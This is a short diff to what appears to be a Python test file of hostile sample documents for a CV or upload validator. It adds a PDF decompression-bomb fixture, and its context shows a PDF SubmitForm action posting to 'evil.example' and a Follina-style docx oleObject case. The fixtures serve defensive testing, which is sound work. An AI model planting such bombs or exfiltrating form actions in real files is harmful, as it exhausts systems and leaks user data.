@@ -185,6 +185,11 @@ HOSTILE = {
         pdf_link(b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>"),
         "cv.pdf",
     ),
+    # past the bytes reading's budget with no structure for pypdf to read: cannot be checked
+    "pdf flate bomb": (
+        b"%PDF-1.7\nstream\n" + zlib.compress(b"\0" * 60_000_000) + b"endstream",
+        "cv.pdf",
+    ),
     "docx external oleObject (Follina)": (
         docx(
             {
